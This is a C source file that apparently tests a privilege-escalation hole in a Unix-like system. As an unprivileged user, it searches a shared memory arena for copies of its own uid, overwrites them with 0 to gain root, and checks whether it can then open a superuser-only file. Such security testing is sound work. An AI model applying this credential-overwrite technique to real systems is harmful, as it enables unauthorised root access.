/* SPDX-License-Identifier: BSD-2-Clause */
/* A user reads the superuser's file: by open, then having looked for its own uid in what the programs of the domain share, and made that 0. */
#include <errno.h>
#include <fcntl.h>
#include <setjmp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include <unix/machine.h>

#define USER		0x5eed1234u
#define SEARCHED	(64ul << 20)	/* bytes of the arena */
#define PAGE		4096ul

static sigjmp_buf back;

static void
no_page(int number)
{
	siglongjmp(back, 1);
}

/* Where this page has USER four times one after the other, there is 0 then. */
static unsigned
page_change(volatile uint32_t *at)
{
	unsigned changed = 0;

	if (sigsetjmp(back, 1))
		return changed;
	for (unsigned i = 0; i + 3 < PAGE / 4; i++) {
		if (at[i] != USER || at[i + 1] != USER || at[i + 2] != USER || at[i + 3] != USER)
			continue;
		at[i] = at[i + 1] = at[i + 2] = at[i + 3] = 0;
		changed++;
	}
	return changed;
}

static void
try(const char *when)
{
	int fd = open("/tmp/secret", O_RDONLY);

	printf("%s: %s\n", when, fd < 0 ? strerror(errno) : "opened");
	if (fd >= 0)
		close(fd);
}

int
main(void)
{
	unsigned changed = 0;

	close(open("/tmp/secret", O_CREAT | O_WRONLY, 0600));
	if (setresuid(USER, USER, USER))
		return 1;
	try("as a user");
	signal(SIGSEGV, no_page);
	for (uint64_t at = UNIX_ARENA; at < UNIX_ARENA + SEARCHED; at += PAGE)
		changed += page_change((volatile uint32_t *)at);
	printf("changed: %s\n", changed ? "yes" : "no");
	try("afterwards");
	return 0;
}
